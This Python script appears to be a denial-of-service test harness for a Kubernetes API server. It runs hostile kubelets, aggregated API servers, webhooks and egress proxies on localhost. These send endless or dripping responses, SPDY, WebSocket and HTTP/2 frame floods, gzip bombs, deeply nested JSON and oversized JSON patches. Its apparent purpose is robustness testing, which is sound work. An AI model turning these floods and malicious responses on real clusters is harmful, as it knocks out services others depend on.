#!/usr/bin/env python3
"""Attacks a server by the servers that it calls: kubelets, aggregated API servers, webhooks, egress proxies.

usage: attacks_network.py [--only NAME,...] [--seconds N] [--memory MIB] SERVER

The rows are those of attacks.py. The hostile servers are those of hostile.py.
"""

import base64
import itertools
import json
import os
import struct
import threading
import time

import attacks
import hostile
from attacks import again, definition, numbered, thing
from hostile import ANSWERS, Hostile, answer, drip, endless

CORE = "/api/v1/namespaces/team"
SERVICES = "/apis/apiregistration.k8s.io/v1/apiservices"
HOOKS = "/apis/admissionregistration.k8s.io/v1/"
# The seconds of an upgraded connection, and of an answer without an end.
SESSION = 3


class Raw:
    """A connection to the server with a request whose answer is left to the attack."""

    def __init__(self, port, method, path, headers="", body=b"", token="attacker"):
        import socket
        self.stream = attacks.CONTEXT.wrap_socket(socket.create_connection(("127.0.0.1", port)))
        self.stream.settimeout(SESSION)
        head = "%s %s HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n%s\r\n" % (method, path, token, headers)
        self.stream.sendall(head.encode() + body)
        self.until = time.monotonic() + SESSION

    def take(self):
        """Reads for a while; returns the status code and the beginning."""
        begin = b""
        try:
            while time.monotonic() < self.until:
                piece = self.stream.recv(65536)
                if not piece:
                    break
                begin = (begin + piece)[:2000]
        except OSError:
            pass
        return (int(begin.split(b" ", 2)[1]) if begin.startswith(b"HTTP/1.1 ") else 0), begin

    def code(self):
        """Reads the beginning of the answer."""
        begin = self.stream.recv(65536)
        return int(begin.split(b" ", 2)[1]) if begin.startswith(b"HTTP/1.1 ") else 0

    def leave(self):
        """Reads nothing for a while."""
        time.sleep(max(self.until - time.monotonic(), 0))

    def flood(self, pattern, begin=b""):
        """Sends without reading."""
        try:
            self.stream.sendall(begin)
            many = pattern * (65536 // len(pattern) + 1)
            while time.monotonic() < self.until:
                self.stream.sendall(many)
        except OSError:
            pass


def ended(connection, work):
    """Does the work, and closes the connection."""
    try:
        found = work(connection)
        return found if found is not None else (200, b"")
    except (OSError, ValueError, IndexError) as error:
        return 0, str(error).encode()
    finally:
        connection.stream.close()


def reads(path, method="GET"):
    return again_call(lambda port: ended(Raw(port, method, path, "Connection: close\r\n"), Raw.take))


def unread(path):
    return again_call(lambda port: ended(Raw(port, "GET", path), Raw.leave))


def again_call(call):
    def guarded(port):
        try:
            return call(port)
        except OSError as error:
            return 0, str(error).encode()
    return itertools.repeat(guarded)


def upgraded(path, protocol, work):
    """Opens WebSockets, or SPDY sessions if there is no protocol, and leaves them to `work`."""
    if protocol:
        headers = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
        headers += "Sec-WebSocket-Protocol: %s\r\n" % protocol
        method = "GET"
    else:
        headers, method = "Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io\r\nContent-Length: 0\r\n", "POST"

    def both(connection):
        code = connection.code()
        if code == 101:
            work(connection)
        return code, b""
    return again_call(lambda port: ended(Raw(port, method, path, headers), both))


# Kubelets.

def kubelet(connection):
    """Behaves as the name of the pod says."""
    spdy = hostile.Spdy()
    path, head, _ = connection.request()
    kind, name = path.split("?")[0].split("/")[1], path.split("?")[0].split("/")[3]
    if kind == "containerLogs" or b"upgrade" not in head.lower() or name in ANSWERS:
        return connection.send(ANSWERS.get(name, ANSWERS["text"])())
    version = b"portforward.k8s.io" if kind == "portForward" else b"v4.channel.k8s.io"
    connection.stream.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\n"
                              b"X-Stream-Protocol-Version: %s\r\n\r\n" % version)
    stdout = 1
    for _ in range(3 if kind == "exec" else 0):
        header = connection.read(8)
        payload = connection.read(int.from_bytes(header[5:], "big"))
        stdout = int.from_bytes(payload[:4], "big")
        connection.stream.sendall(spdy.reply(stdout))
    if name == "silent":
        return time.sleep(3600)
    connection.ignore()
    connection.send(endless(*spdy.flood(name, stdout)))


def with_kubelet(server, names):
    node = {"metadata": {"name": "hostile"}, "status": {"addresses": [{"type": "InternalIP", "address": "127.0.0.1"}],
            "daemonEndpoints": {"kubeletEndpoint": {"Port": Hostile(kubelet, ["http/1.1"]).port}}}}
    server.make("/api/v1/nodes", node)
    for name in names:
        server.make(CORE + "/pods", {"metadata": {"name": name}, "spec": {"nodeName": "hostile", "containers": [{"name": "c", "image": "i"}]}})


def exec_of(name):
    return CORE + "/pods/%s/exec?command=x&stdin=true&stdout=true" % name


def logs(server):
    with_kubelet(server, ANSWERS)
    return [reads(CORE + "/pods/%s/log?follow=true" % name) for name in ANSWERS]


def logs_nobody_reads(server):
    with_kubelet(server, ["text", "bytes", "gzip"])
    return [unread(CORE + "/pods/%s/log?follow=true" % ("text", "bytes", "gzip")[n % 3]) for n in range(60)]


def refused_upgrades(server):
    with_kubelet(server, ANSWERS)
    return [upgraded(exec_of(name), protocol, Raw.take) for name in ANSWERS for protocol in ("v5.channel.k8s.io", None)]


def spdy_floods(server):
    names = hostile.SPDY_FLOODS + ["bombs"]
    with_kubelet(server, names)
    return [upgraded(exec_of(name), "v5.channel.k8s.io", Raw.take) for name in names]


def spdy_floods_nobody_reads(server):
    names = hostile.SPDY_FLOODS + ["bombs"]
    with_kubelet(server, names)
    return [upgraded(exec_of(name), "v5.channel.k8s.io", Raw.leave) for name in names * 3]


def tunnels(server):
    names = ["large", "small", "pings"]
    with_kubelet(server, names)
    forward = [upgraded(CORE + "/pods/%s/portforward" % name, "SPDY/3.1+portforward.k8s.io", work) for name in names for work in (Raw.take, Raw.leave)]
    return forward + [upgraded(CORE + "/pods/%s/attach?stdout=true" % name, None, work) for name in names for work in (Raw.take, Raw.leave)]


def masked(first, payload=b""):
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else bytes([0xfe]) + struct.pack(">H", len(payload))
    return bytes([first]) + size + bytes(4) + payload


def websocket_floods(server):
    """Clients that send without reading, to a kubelet that does the same, and to one that reads nothing."""
    with_kubelet(server, ["silent", "small"])
    floods = {
        "pings": (masked(0x89, b"x" * 125), b""), "pongs": (masked(0x8a), b""), "fragments": (masked(0, b"x"), masked(2, b"\0")),
        "empty fragments": (masked(0), masked(2, b"\0")), "messages": (masked(0x82, b"\0" + b"x" * 60000), b""), "empty messages": (masked(0x82), b""),
        "sizes": (masked(0x82, b'\4{"Width":1,"Height":1}'), b""), "half sizes": (masked(0x82, b'\4{"Width":1,'), b""),
        "closed channels": (masked(0x82, b"\xff\1"), b""), "long": (b"x", b"\x82\xff" + struct.pack(">Q", 1 << 62) + bytes(4)),
    }
    def flooding(pattern, begin):
        return lambda connection: connection.flood(pattern, begin)
    forward = "SPDY/3.1+portforward.k8s.io"
    path_of = lambda name, protocol: CORE + "/pods/%s/portforward" % name if protocol == forward else exec_of(name)
    return [upgraded(path_of(name, protocol), protocol, flooding(*flood)) for name in ("silent", "small") for flood in floods.values()
            for protocol in ("v5.channel.k8s.io", forward) if protocol != forward or flood in (floods["pings"], floods["messages"])]


# Aggregated API servers.

def aggregated(server, respond, group="hostile.test", protocols=("http/1.1",)):
    """Registers a server, whose requests `respond` answers, and returns the path of its resources."""
    def serve(connection):
        if protocols[0] == "h2":
            return respond(connection)
        while True:
            path, head, _ = connection.request()
            connection.send(respond(path, head))
    port = Hostile(serve, protocols).port
    server.make("/api/v1/namespaces/team/services", {"metadata": {"name": group.split(".")[0]}, "spec": {"type": "ExternalName", "externalName": "localhost"}})
    spec = {"group": group, "version": "v1", "groupPriorityMinimum": 100, "versionPriority": 10, "insecureSkipTLSVerify": True,
            "service": {"namespace": "team", "name": group.split(".")[0], "port": port}}
    server.make(SERVICES, {"metadata": {"name": "v1." + group}, "spec": spec})
    until = time.monotonic() + 20
    while time.monotonic() < until:
        conditions = json.loads(server.root.ask("GET", SERVICES + "/v1." + group)[1]).get("status", {}).get("conditions", [])
        if any(condition["type"] == "Available" and condition["status"] == "True" for condition in conditions):
            break
        time.sleep(0.1)
    return "/apis/%s/v1/namespaces/team/things" % group


RESOURCES = {"kind": "APIResourceList", "apiVersion": "v1", "groupVersion": "hostile.test/v1", "resources": [
    {"name": "things", "singularName": "thing", "namespaced": True, "kind": "Thing", "verbs": ["get", "list", "watch", "create"]}]}


def is_discovery(path):
    return path.count("/") <= 3 and path.startswith("/api") or path.startswith("/openapi")


def behaves(path, _):
    """Answers discovery, and everything else as the query says."""
    if is_discovery(path):
        return [answer(json.dumps(RESOURCES).encode())] if path.startswith("/apis/hostile.test/v1") else [answer(b"", status=b"404 Not Found")]
    return ANSWERS[path.split("attack=")[1]]()


def relayed_answers(server):
    path = aggregated(server, behaves)
    return [reads(path + "?attack=" + name) for name in ANSWERS]


def relayed_answers_nobody_reads(server):
    path = aggregated(server, behaves)
    return [unread(path + "?attack=" + ("text", "bytes", "html")[n % 3]) for n in range(60)]


def relayed_slowly(server):
    """Bodies and heads that drip, to as many requests as have seats."""
    path = aggregated(server, behaves)
    def waits(name):
        def call(connection):
            connection.until += 8
            connection.stream.settimeout(11)
            return connection.take()
        return again_call(lambda port: ended(Raw(port, "GET", path + "?attack=" + name), call))
    return [waits(("drip-body", "drip-head")[n % 2]) for n in range(700)]


def uploaded_slowly(server):
    """Clients that drip the bodies of requests to an aggregated server."""
    path = aggregated(server, behaves)
    headers = "Content-Type: application/json\r\nContent-Length: 1000000\r\n"
    def waits(connection):
        connection.until += 8
        while time.monotonic() < connection.until:
            connection.stream.sendall(b" ")
            time.sleep(0.5)
    return [again_call(lambda port: ended(Raw(port, "POST", path + "?attack=poison", headers), waits)) for _ in range(700)]


def frames_of_http2(server):
    """Floods of HTTP/2 by an aggregated server."""
    floods = list(hostile.FRAME_FLOODS.values())
    def respond(connection):
        http = hostile.Http2(connection)
        if connection.number < 6:
            # The check of its availability, and its documents.
            while True:
                stream = http.request()
                body = json.dumps(RESOURCES).encode()
                http.send(hostile.frame(1, 4, stream, b"\x88"))
                http.body(stream, body)
                http.send(hostile.frame(0, 1, stream))
        stream = http.request()
        connection.send(endless(*floods[connection.number % len(floods)](stream)))
    def first(connection):
        # All requests share the first connection until it is full, so each one ends after a few requests.
        http = hostile.Http2(connection)
        for _ in range(4 if connection.number == 0 else 1):
            stream = http.request()
            if connection.number % 2 == 1:
                return connection.send(endless(*floods[connection.number // 2 % len(floods)](stream)))
            http.send(hostile.frame(1, 4, stream, b"\x88"))
            http.body(stream, json.dumps(RESOURCES).encode())
            http.send(hostile.frame(0, 1, stream))
        http.send(hostile.frame(7, 0, 0, struct.pack(">II", stream, 0)))
        time.sleep(1)
    path = aggregated(server, first, protocols=("h2",))
    return [reads(path + "/%d" % n) for n in range(16)]


def discovery(resources, salt):
    item = lambda n: {"resource": "r%d-%d" % (n, salt), "scope": "Namespaced", "singularResource": "r", "verbs": ["get", "list"], "shortNames": ["a", "b"],
                      "responseKind": {"group": "", "version": "", "kind": "K%d" % n}}
    groups = [{"metadata": {"name": "hostile.test"}, "versions": [{"version": "v1", "resources": [item(n) for n in range(resources)]}]}]
    return json.dumps({"kind": "APIGroupDiscoveryList", "apiVersion": "apidiscovery.k8s.io/v2", "items": groups}, separators=(",", ":")).encode()


def openapi(paths, salt):
    operation = {"get": {"operationId": "x%d" % salt, "parameters": [1] * 60, "responses": {"200": {"description": "d"}}}}
    return json.dumps({"swagger": "2.0", "info": {"title": "x", "version": "v"}, "definitions": {"D%d" % n: {"type": "object"} for n in range(paths)},
                       "paths": {"/apis/hostile.test/v1/p%d" % n: operation for n in range(paths)}}, separators=(",", ":")).encode()


AGGREGATED = "application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList"


def documents(server, discovered, described, index):
    """A server whose documents `discovered`, `described` and `index` make from a number that changes each time."""
    count = itertools.count()
    def respond(path, _):
        if path.startswith("/apis/hostile.test/v1"):
            return [answer(json.dumps(RESOURCES).encode())]
        if path.startswith("/openapi/v3"):
            return index(next(count))
        if path.startswith("/openapi"):
            return described(next(count))
        return discovered(next(count))
    aggregated(server, respond)
    def poll():
        # Documents are read again when their APIService changes.
        client = attacks.Client(server.port, "root")
        for n in itertools.count():
            client.ask("PATCH", SERVICES + "/v1.hostile.test", {"metadata": {"labels": {"n": str(n)}}}, "application/merge-patch+json")
            time.sleep(0.5)
    threading.Thread(target=poll, daemon=True).start()
    def asks(path, accept):
        call = lambda port: attacks.Client(port, "attacker").ask("GET", path, None, headers={"Accept": accept})
        return again_call(call)
    return [asks("/apis", AGGREGATED), asks("/apis", AGGREGATED), asks("/apis", "application/json"), asks("/openapi/v2", "application/json"),
            asks("/openapi/v2", "application/com.github.proto-openapi.spec.v2@v1.0+protobuf"), asks("/openapi/v3", "application/json"),
            asks("/openapi/v3/apis/hostile.test/v1", "application/json")]


def of_kind(body):
    return [answer(body, AGGREGATED.encode())]


def large_documents(server):
    cache = [discovery(40000, n) for n in range(2)], [openapi(16000, n) for n in range(2)]
    index = lambda n: [answer(json.dumps({"paths": {"apis/hostile.test/v%d" % m: {"serverRelativeURL": "/openapi/v3/%d-%d" % (n, m)} for m in range(14000)}}).encode())]
    return documents(server, lambda n: of_kind(cache[0][n % 2]), lambda n: [answer(cache[1][n % 2])], index)


def nested_documents(server):
    deep = hostile.nested(10000)
    objects = b'{"paths":' + b'{"a":' * 10000 + b"1" + b"}" * 10000 + b"}"
    lists = b'{"paths":{},"definitions":' + b"[[]," * 300000 + b"1" + b"]" * 300000 + b"}"
    many = b'{"paths":{"/apis/hostile.test/v1/x":[' + b"[]," * 1_400_000 + b"[]]}}"
    members = b'{"paths":{"/apis/hostile.test/v1/x":{' + b",".join(b'"%x":{}' % n for n in range(740_000)) + b"}}}"
    v2 = [objects, lists, many, members]
    v3 = [deep, b'{"paths":{' + b",".join(b'"%x":[]' % n for n in range(80_000)) + b"}}", b'{"paths":{' + b",".join(b'"apis/hostile.test/v%x":{"serverRelativeURL":"/x"}' % n for n in range(14_000)) + b"}}"]
    shapes = [b'{"items":' + deep + b"}", b'{"items":[' + b"{}," * 3_000_000 + b"{}]}", b'{"items":[{"versions":[{"resources":[' + b"{}," * 3_000_000 + b"{}]}]}]}",
              b'{"items":[{"versions":[{"resources":[{"verbs":[' + b'"",' * 3_000_000 + b'""]}]}]}]}']
    return documents(server, lambda n: of_kind(shapes[n % len(shapes)]), lambda n: [answer(v2[n % len(v2)])], lambda n: [answer(v3[n % len(v3)])])


def endless_documents(server):
    begin = b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: 500000000\r\n\r\n" % AGGREGATED.encode()
    answers = [lambda: endless(begin, b" "), lambda: endless(begin, b'{"a":1,'), lambda: hostile.gzip_bomb(AGGREGATED.encode()), *ANSWERS.values()]
    one = lambda n: answers[n % len(answers)]()
    return documents(server, one, one, one)


# Webhooks.

def admission_answer(review, **response):
    body = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": {"uid": review["request"]["uid"], "allowed": True, **response}}
    return json.dumps(body).encode()


def patched(patch):
    text = patch if isinstance(patch, bytes) else json.dumps(patch, separators=(",", ":")).encode()
    return lambda review: [answer(admission_answer(review, patchType="JSONPatch", patch=base64.b64encode(text).decode()))]


def add(path, value):
    return {"op": "add", "path": path, "value": value}


def hook_answers():
    names = ["a.b/c%d" % n for n in range(100000)]
    grown = b'[{"op":"add","path":"/data","value":{"l":[' + b"1," * 1_000_000 + b"1]}}]"
    objects = b'[{"op":"add","path":"/data","value":[' + b"{}," * 1_000_000 + b"{}]}]"
    deep = b'[{"op":"add","path":"/data","value":' + hostile.nested(9000) + b"}]"
    copies = [add("/metadata/annotations", {"a": "x" * 1000})] + [
        {"op": "copy", "from": "/metadata/annotations", "path": "/metadata/annotations/b%d" % n} for n in range(60)]
    members = [add("/metadata/finalizers", [])] + [add("/metadata/finalizers/0", "a.b/c")] * 100000
    moves = [add("/metadata/finalizers", names)] + [{"op": "move", "from": "/metadata/finalizers/0", "path": "/metadata/finalizers/99999"}] * 20000
    tests = [add("/metadata/finalizers", names)] + [{"op": "test", "path": "/metadata/finalizers", "value": names[:20000]}] * 3
    removed = [add("/data", {"k%d" % n: "" for n in range(50000)})] + [{"op": "remove", "path": "/data/k%d" % n} for n in range(50000)]
    answers = {
        "grown": patched(grown), "objects": patched(objects), "deep": patched(deep), "copies": patched(copies), "members": patched(members),
        "moves": patched(moves), "tests": patched(tests), "removed": patched(removed), "pointers": patched([add("/a" * 300000, 1)] * 5),
        "warnings": lambda review: [answer(admission_answer(review, warnings=["w%d" % n for n in range(300000)]))],
        "notes": lambda review: [answer(admission_answer(review, auditAnnotations={"k%d" % n: "v" for n in range(200000)}))],
        "message": lambda review: [answer(admission_answer(review, allowed=False, status={"message": "x" * 6_000_000, "code": 403}))],
        "causes": lambda review: [answer(admission_answer(review, allowed=False, status={"details": {"causes": [{"message": "x"}] * 200000}}))],
        "deep-answer": lambda _: [answer(hostile.nested(10000))],
        "lists": lambda _: [answer(b'{"kind":"AdmissionReview","x":[' + b"[]," * 2_000_000 + b"[]]}")],
        "poisoned": lambda review: [answer(admission_answer(review)) + answer(admission_answer(review)) * 100],
    }
    answers.update({name: lambda _, make=make: make() for name, make in ANSWERS.items()})
    return answers


def webhooks(answers):
    """Starts a server with a webhook for each answer; returns a function from their names to the configurations of clients."""
    def serve(connection):
        while True:
            path, _, body = connection.request()
            connection.send(answers[path.split("?")[0].strip("/")](json.loads(body)))
    hooks = Hostile(serve, ["http/1.1"])
    with open(hooks.files[0], "rb") as file:
        bundle = base64.b64encode(file.read()).decode()
    return lambda name: {"url": "https://localhost:%d/%s" % (hooks.port, name), "caBundle": bundle}


def with_hooks(server, kind):
    """Registers a webhook for each answer; returns their names."""
    answers = hook_answers()
    client = webhooks(answers)
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"], "scope": "Namespaced"}
    server.make(HOOKS + kind.lower() + "s", {"metadata": {"name": "hostile"}, "webhooks": [
        {"name": name + ".hostile.test", "admissionReviewVersions": ["v1"], "sideEffects": "None", "timeoutSeconds": 3, "rules": [rule],
         "objectSelector": {"matchLabels": {"attack": name}},
         "clientConfig": client(name)} for name in answers]})
    time.sleep(2)
    return list(answers)


def creates(name):
    body = {"metadata": {"generateName": "a-", "labels": {"attack": name}}, "data": {"k": "v"}}
    return again("POST", CORE + "/configmaps", body)


def mutating_webhooks(server):
    return [creates(name) for name in with_hooks(server, "MutatingWebhookConfiguration")]


def validating_webhooks(server):
    return [creates(name) for name in with_hooks(server, "ValidatingWebhookConfiguration")]


def conversions():
    def reviewed(change):
        def respond(review):
            request = review["request"]
            objects = [change({**found, "apiVersion": request["desiredAPIVersion"]}) for found in request["objects"]]
            body = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview", "response": {
                "uid": request["uid"], "result": {"status": "Success"}, "convertedObjects": objects}}
            return [answer(json.dumps(body, separators=(",", ":")).encode())]
        return respond
    grow = lambda size, item: reviewed(lambda found: {**found, "spec": {"l": [item] * size}})
    answers = {
        "long": grow(100000, 1), "objects": grow(100000, {}), "texts": grow(10000, "x" * 30), "deep": reviewed(lambda found: {**found, "spec": json.loads("[" * 250 + "]" * 250)}),
        "wide": reviewed(lambda found: {**found, "spec": {"m": {"%x" % n: 1 for n in range(60000)}}}),
        "labels": reviewed(lambda found: {**found, "metadata": {**found["metadata"], "labels": {"k%d" % n: "v" for n in range(50000)}}}),
        "many": lambda review: [answer(b'{"kind":"ConversionReview","apiVersion":"apiextensions.k8s.io/v1","response":{"uid":"%s","result":{"status":"Success"},"convertedObjects":[' %
                                       review["request"]["uid"].encode() + b"{}," * 1_000_000 + b"{}]}}")],
        "poisoned": lambda review: [reviewed(lambda found: found)(review)[0] * 50],
    }
    answers.update({name: lambda _, make=make: make() for name, make in ANSWERS.items()})
    return answers


def conversion_webhooks(server):
    answers = conversions()
    client = webhooks(answers)
    schema, connections = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}, []
    for name in answers:
        group = name + ".conversion.test"
        body = definition(group, schema)
        body["spec"]["versions"].append({**body["spec"]["versions"][0], "name": "v2", "storage": False})
        webhook = {"conversionReviewVersions": ["v1"], "clientConfig": client(name)}
        body["spec"]["conversion"] = {"strategy": "Webhook", "webhook": webhook}
        server.make(attacks.CRDS, body)
        path = "/apis/%s/v1/namespaces/team/things" % group
        while server.root.ask("GET", path)[0] != 200:
            time.sleep(0.02)
        for n in range(20):
            server.make(path, thing(group, "t%d" % n, {"a": 1}))
        connections.append(again("GET", "/apis/%s/v2/namespaces/team/things" % group, None))
    return connections


# Egress proxies.

def egress(protocol, serve):
    """Returns the flags of a server whose connections to the cluster go through a hostile proxy."""
    def setup(folder):
        path = os.path.join(folder, "proxy")
        Hostile(serve, path=path)
        config = {"apiVersion": "apiserver.k8s.io/v1beta1", "kind": "EgressSelectorConfiguration", "egressSelections": [
            {"name": "cluster", "connection": {"proxyProtocol": protocol, "transport": {"uds": {"udsName": path}}}}]}
        with open(os.path.join(folder, "egress.json"), "w") as file:
            json.dump(config, file)
        return ["--egress-selector-config-file=" + file.name]
    return setup


def through_proxy(server):
    with_kubelet(server, ["text"])
    return [reads(CORE + "/pods/text/log") for _ in range(24)]


def connect_heads(server):
    return through_proxy(server)


HEADS = [lambda: endless(b"HTTP/1.1 200 OK\r\nX: ", b"x"), lambda: endless(b"", b"HTTP/1.1 103 Early Hints\r\n\r\n"), lambda: endless(b"", b"\r\n"),
         lambda: drip(b"HTTP/1.1 200 OK\r\nX: " + b"x" * 10000), lambda: endless(b"", b"x"), lambda: iter([b"HTTP/1.1 403 " + b"x" * 900_000 + b"\r\n\r\n"]),
         lambda: endless(b"HTTP/1.1 200 OK\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n"), lambda: endless(b"HTTP/1.1 200 OK\r\n\r\n", bytes(100))]


def connect_proxy(connection):
    connection.head()
    connection.send(HEADS[connection.number % len(HEADS)]())


connect_heads.setup = egress("HTTPConnect", connect_proxy)


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def message(kind, payload):
    """Returns a gRPC message with a packet of konnectivity, whose payload is the field `kind + 2`."""
    packet = b"\x08" + varint(kind) + bytes([(kind + 2) << 3 | 2]) + varint(len(payload)) + payload
    return b"\0" + struct.pack(">I", len(packet)) + packet


def konnectivity(connection):
    """Answers a dial request or not, and floods with packets or frames."""
    http = hostile.Http2(connection)
    stream = http.request()
    floods = list(hostile.FRAME_FLOODS.values())
    way = connection.number % (len(floods) + 6)
    if way < len(floods):
        return connection.send(endless(*floods[way](stream)))
    http.send(hostile.frame(1, 4, stream, b"\x88\x0f\x10\x10application/grpc"))
    http.wait(lambda: len(http.data.get(stream, b"")) > 20)
    way -= len(floods)
    dial = http.data[stream]
    random = dial[dial.rindex(b"\x18") + 1:]
    if way >= 3:
        http.body(stream, message(1, b"\x10\x07\x18" + random))
    other, own = message(4, b"\x08\x09"), message(4, b"\x08\x07")
    pattern = [other, b"\0\0\0\0\0", message(4, b"\x08\x09\x1a" + varint(60000) + bytes(60000)), own, other, b"\0\x7f\xff\xff\xff" + bytes(1000)][way]
    many = pattern * (60000 // len(pattern) + 1)
    while True:
        http.body(stream, many)


def konnectivity_frames(server):
    return through_proxy(server)


konnectivity_frames.setup = egress("GRPC", konnectivity)

ATTACKS = [logs, logs_nobody_reads, refused_upgrades, spdy_floods, spdy_floods_nobody_reads, tunnels, websocket_floods,
           relayed_answers, relayed_answers_nobody_reads, relayed_slowly, uploaded_slowly, frames_of_http2,
           large_documents, nested_documents, endless_documents, mutating_webhooks, validating_webhooks, conversion_webhooks,
           connect_heads, konnectivity_frames]

if __name__ == "__main__":
    attacks.main(ATTACKS, __doc__)
